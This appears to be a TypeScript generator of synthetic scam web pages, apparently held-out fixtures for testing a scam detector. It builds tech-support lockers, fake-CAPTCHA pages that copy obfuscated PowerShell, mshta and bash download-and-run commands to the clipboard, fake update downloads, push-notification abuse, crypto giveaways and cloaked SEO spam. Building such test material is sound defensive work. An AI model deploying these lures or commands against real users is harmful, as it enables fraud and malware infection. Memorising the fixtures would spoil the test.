/** Scams that ask for a call, a command, a click or an installation. */
import { chance, picture } from '../chance.ts';
import { base64, charCodes } from '../obfuscation.ts';
import type { Builders, HeldOut } from '../report.ts';

const CALLS: [string, string, string, string, string][] = [
  [
    'https://winsec0x80072.z22.web.core.windows.net/Er0Win8helpline/index.html',
    'en',
    'Windows Defender Security Center',
    'Access to this PC has been blocked for security reasons. Do not close this window. Contact Windows Support',
    '+1-888-555-0142',
  ],
  [
    'https://storage.cloud-alert-71.example/de/ch/index.html?phone=',
    'de',
    'Windows-Sicherheitswarnung',
    'Ihr Computer wurde gesperrt! Trojaner-Spyware gefunden. Schalten Sie den PC nicht aus. Rufen Sie den Microsoft-Support an',
    '+49 800 555 0199',
  ],
  [
    'https://d3k2a9.cloudfront.net/fr/alerte.html',
    'fr',
    'Alerte de sécurité Windows',
    'Votre ordinateur est bloqué. Vos données bancaires sont en danger. Appelez le support technique',
    '01 99 00 55 42',
  ],
  [
    'https://apple-alert-ios.example.club/',
    'en',
    'Apple Security Warning',
    'Your iPhone is severely damaged by 17 viruses! Call AppleCare immediately',
    '+1-800-555-0177',
  ],
  [
    'http://198.51.100.23/ja/securitywarning/',
    'ja',
    'Windowsセキュリティ警告',
    'トロイの木馬スパイウェアに感染しました。すぐにサポートに電話してください',
    '050-5555-0100',
  ],
  [
    'https://soporte-windows-x.ondigitalocean.app/',
    'es',
    'Alerta de Windows',
    'Su equipo ha sido bloqueado por actividad ilegal. Llame ahora a Microsoft',
    '+34 900 555 010',
  ],
  [
    'https://helpdesk-nl-warn.netlify.app/',
    'nl',
    'Windows Beveiliging',
    'Toegang tot deze pc is geblokkeerd. Bel direct met Microsoft Support',
    '+31 85 555 0100',
  ],
];
const calls = () =>
  CALLS.map(([url, lang, title, text, phone], n): HeldOut => {
    const r = chance(url);
    const script = [
      `document.onkeydown=function(e){return false};navigator.keyboard&&navigator.keyboard.lock();document.body.onclick=function(){document.documentElement.requestFullscreen()};window.onbeforeunload=function(){return "${phone}"};`,
      `function myFunction(){setInterval(function(){alert("${title}\\n\\n${phone}")},1000)}window.onload=function(){document.getElementById('beep').play();myFunction()};history.pushState(null,null,'#');window.addEventListener('popstate',function(){history.pushState(null,null,'#')});`,
      `for(var i=0;i<100;i++){history.pushState({},'',location.href+i)}setInterval(()=>{new Audio('/_Fm7-alert.mp3').play()},3000);var bomb=()=>{while(1){prompt("User name / Password")}};`,
    ][n % 3];
    return {
      url,
      html: `<!DOCTYPE html><html lang="${lang}"><head><meta charset="utf-8"><title>${title}</title><meta name="robots" content="noindex"><script src="js/jquery-1.4.4.min.js"></script><style>body{cursor:none;background:url(images/bg1.jpg)}</style></head><body id="mycanvas" onbeforeunload="return myFunction()"><audio id="beep" autoplay loop><source src="media/_Fm7-alert.mp3"></audio><div class="cardcontainer" id="pop_up_new"><img src="${picture(url, 400)}"><h1>${title}</h1><p>${text}: <b>${phone}</b></p><p>Error: 0x80072ee7 · Ads.fiancetrack(2).dll · IP: 198.51.100.${r.below(255)}</p><button>Deny</button><button>Allow</button></div><div class="black" style="opacity:.7;height:145%"></div><form><input placeholder="Username"><input type="password"></form><script>${script}</script></body></html>`,
    };
  });

const FIXES: [string, string, string, [string, string, string]][] = [
  [
    'https://human-check-cf.example.pages.dev/',
    'en',
    'Verify you are human',
    ['Press Windows Button + R', 'Press CTRL + V', 'Press Enter'],
  ],
  [
    'https://booking.extranet-guest-8812.com/sign-in',
    'en',
    'Booking.com: complete the CAPTCHA',
    ['Press Win + R', 'Press Ctrl + V', 'Press Enter'],
  ],
  [
    'https://meet.google.com-conference.example.us/fix',
    'en',
    'Your microphone has a problem',
    ['Press the key combination Win+X', 'Select Terminal', 'Paste the fix and press Enter'],
  ],
  [
    'https://dokument-anzeige.example.site/',
    'de',
    'Word Online: Erweiterung fehlt',
    ['Drücken Sie Windows + R', 'Drücken Sie Strg + V', 'Drücken Sie die Eingabetaste'],
  ],
  [
    'https://verification-robot.example.fr.cd/',
    'fr',
    'Vérifiez que vous êtes humain',
    ['Appuyez sur Windows + R', 'Appuyez sur Ctrl + V', 'Appuyez sur Entrée'],
  ],
  [
    'https://mac-cleaner-help.example.top/',
    'en',
    'Cloudflare: unusual traffic',
    ['Open Spotlight and type Terminal', 'Paste with Command + V', 'Press Return'],
  ],
  [
    'http://clinic-site.example/',
    'ru',
    'Подтвердите, что вы человек',
    ['Нажмите Win + R', 'Нажмите Ctrl + V', 'Нажмите Enter'],
  ],
];
const fixes = () =>
  FIXES.map(([url, lang, title, steps], n): HeldOut => {
    const command =
      [
        'powershell -w hidden -ep bypass -c "iex(iwr https://files.example/v)" # ✅ I am not a robot - reCAPTCHA ID: 7711',
        'mshta https://files.example/a.mp4 # Ray ID',
        'bash -c "$(echo \'Y3VybCBleGFtcGxl\' | base64 -d)"',
      ][n % 3] ?? '';
    const copy =
      n % 2
        ? `const t=document.createElement('textarea');t.value=atob('${base64(command)}'.trim());document.body.append(t);t.select();document.execCommand('copy');t.remove();`
        : `navigator.clipboard.writeText(String.fromCharCode(${charCodes(command)}));`;
    return {
      url,
      html: `<!doctype html><html lang="${lang}"><head><title>${title}</title></head><body><div class="recaptcha-box"><div id="checkbox" role="checkbox"></div><span>I'm not a robot</span><img src="https://www.gstatic.com/recaptcha/api2/logo_48.png"></div><div id="verify-window" style="display:none"><h3>${title}</h3><ol>${steps.map((s) => `<li>${s}</li>`).join('')}</ol><button id="v" disabled>Verify</button></div><script>document.getElementById('checkbox').addEventListener('click',()=>{${copy}document.getElementById('verify-window').style.display='block';fetch('/click.php?'+Date.now())});</script></body></html>`,
    };
  });

const scams = (): HeldOut[] => {
  const r = chance('scams');
  const make = (url: string, lang: string, title: string, body: string): HeldOut => ({
    url,
    html: `<!DOCTYPE html><html lang="${lang}"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>${title}</title></head><body>${body}</body></html>`,
  });
  const push = (text: string) =>
    `<img src="${picture(text, 300)}"><h2>${text}</h2><script>var vapid="B${r.text(60)}";function urlB64(b){return Uint8Array.from(atob(b),c=>c.charCodeAt(0))}Notification.requestPermission().then(p=>{if(p!=='granted'){location.href=location.href.replace('//','//'+Math.random().toString(36).slice(2)+'.')}else{navigator.serviceWorker.register('/sw-check-permissions-${r.hex(5)}.js').then(g=>g.pushManager.subscribe({userVisibleOnly:true,applicationServerKey:urlB64(vapid)})).then(s=>fetch('https://push.example/subscribe',{method:'POST',body:JSON.stringify(s)})).then(()=>location='https://offers.example/?z='+${r.below(9999)})}});</script>`;
  return [
    make(
      'https://robotcaptcha.example.info/?s=81',
      'en',
      'Click Allow',
      push('Click “Allow” to confirm that you are not a robot'),
    ),
    make(
      'https://video-player.example.stream/',
      'de',
      'Video',
      push('Klicken Sie auf „Zulassen“, um das Video anzusehen'),
    ),
    make(
      'https://captcha-pronto.example.work/',
      'pt',
      'Verificação',
      push('Clique em "Permitir" para provar que você não é um robô'),
    ),
    make(
      'http://hacked-bakery.example/',
      'en',
      'Update Chrome',
      `<iframe src="data:text/html;base64,${base64('<h1>You are using an older version of Chrome</h1>')}" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;border:none"></iframe><script>(function(){var s=document.createElement('script');s.src='https://cdn-stat.example/report?r='+btoa(document.referrer)+'&u='+encodeURIComponent(navigator.userAgent);document.head.appendChild(s)})();</script><a id="u" href="https://files.example/Chrome.Update.7f1.js" download>Update Chrome</a>`,
    ),
    make(
      'https://get-flash-player.example.download/',
      'it',
      'Aggiornamento Flash Player',
      `<h1>Adobe Flash Player non è aggiornato</h1><p>Installa l’ultima versione per continuare.</p><a href="FlashPlayer_install.dmg" class="btn">Installa</a><script>setTimeout(function(){location.href='FlashPlayer_install.dmg'},3000);alert('Flash Player!')</script>`,
    ),
    make(
      'https://teamviewer-download.example.pro/',
      'en',
      'TeamViewer – Free download',
      `<h1>TeamViewer</h1><button onclick="dl()">Download for Windows</button><script>function dl(){fetch('https://api.telegram.org/bot${r.below(1e9)}:AA${r.text(33)}/sendMessage?chat_id=1&text=download');location='https://files.example/TeamViewer_Setup.msix'}</script>`,
    ),
    make(
      'https://amazon-umfrage.example.gdn/?c=iphone',
      'de',
      'Herzlichen Glückwunsch!',
      `<h2>Lieber Amazon-Kunde, Sie wurden ausgewählt, ein iPhone 15 Pro zu gewinnen!</h2><p>Nur noch <b id="t">3:12</b> Minuten. Beantworten Sie 4 Fragen.</p><div id="gift">🎁🎁🎁</div><script>var n=0;document.querySelectorAll('#gift').forEach(b=>b.onclick=()=>{if(++n==2){alert('Glückwunsch! Zahlen Sie nur 1,95 € Versand.');location='https://pay.example/?aff=${r.below(999)}'}});navigator.vibrate&&navigator.vibrate([500,200,500]);</script><div class="fb-comment">Anna M.: Heute angekommen, danke!</div>`,
    ),
    make(
      'https://nestle-premio.example.quest/wa',
      'es',
      'Aniversario',
      '<h2>¡Felicidades! Participa y gana 1.000 €</h2><p>Comparte con 5 grupos o 20 amigos en WhatsApp</p><a href="whatsapp://send?text=Gana%20https%3A%2F%2Fnestle-premio.example.quest">Compartir</a><script>var s=0;document.querySelector("a").addEventListener("click",function(){s+=20;if(s>=100)location="/final.php"})</script>',
    ),
    make(
      'https://bitcoin-profit-tesla.example.live/',
      'en',
      'Official event',
      '<h1>Elon Musk 5,000 BTC giveaway</h1><p>Send from 0.1 to 50 BTC to the address below and get double back immediately.</p><code>bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh</code><p>Hurry: 712 BTC left</p><div id="tx"></div><script>setInterval(function(){var v=(Math.random()*5).toFixed(2);tx.innerHTML="<p>bc1q… sent "+v+" BTC, received "+2*v+" BTC</p>"+tx.innerHTML},1800)</script>',
    ),
    make(
      'https://job-telegram-like.example.vip/#/register',
      'zh',
      '刷单平台 注册',
      '<h1>日赚500元 轻松兼职</h1><input placeholder="手机号"><input type="password" placeholder="登录密码"><input type="password" placeholder="资金密码"><input placeholder="邀请码"><p>充值 USDT-TRC20 即可提现</p><script src="/static/js/app.js"></script>',
    ),
    make(
      'https://polizei-bussgeld.example.today/',
      'de',
      'Bundespolizei – Ihr Browser wurde gesperrt',
      '<h1>IHR BROWSER WURDE GESPERRT</h1><p>Wegen Verbreitung verbotener Inhalte ist eine Strafe von 100 € per Paysafecard zu zahlen, sonst wird Strafanzeige erstattet.</p><form action="pay.php" method="post"><input name="pin" placeholder="Paysafecard PIN"><input type="submit" value="Strafe bezahlen"></form><script>window.onbeforeunload=function(){return "Ihr Browser wurde gesperrt"};for(var i=0;i<50;i++)document.write("<iframe src=lock.html width=0 height=0></iframe>")</script>',
    ),
    make(
      'http://school-choir.example/wp-content/cache/cheap-viagra-online.html',
      'en',
      'Buy cheap Viagra online without prescription',
      `<div style="position:absolute;left:-9999px">${[
        'viagra',
        'cialis',
        'levitra',
        'replica watches',
        'payday loans',
      ]
        .map((w) => `<a href="http://${r.text(7)}.example/${w}">${w} cheap</a>`)
        .join(' ')
        .repeat(
          20,
        )}</div><script>var r=document.referrer;if(r.match(/google|bing|yahoo/i)&&!/bot/i.test(navigator.userAgent)){window.location='http://pills.example/?kw=viagra'}</script>`,
    ),
    make(
      'http://vinyl-club.example/index.php?louboutin=1',
      'ja',
      'ブランドコピー 激安通販',
      `<h1>ルイヴィトン スーパーコピー 激安</h1><div style="display:none">${Array.from({ length: 80 }, () => `<a href="http://${r.text(6)}.example/">${r.text(5)} コピー</a>`).join('')}</div><script>eval(String.fromCharCode(${charCodes("if(/google|yahoo/.test(document.referrer)){location.href='http://copy-shop.example/'}")}))</script>`,
    ),
  ];
};

export const lures: Builders = { calls, fixes, scams };
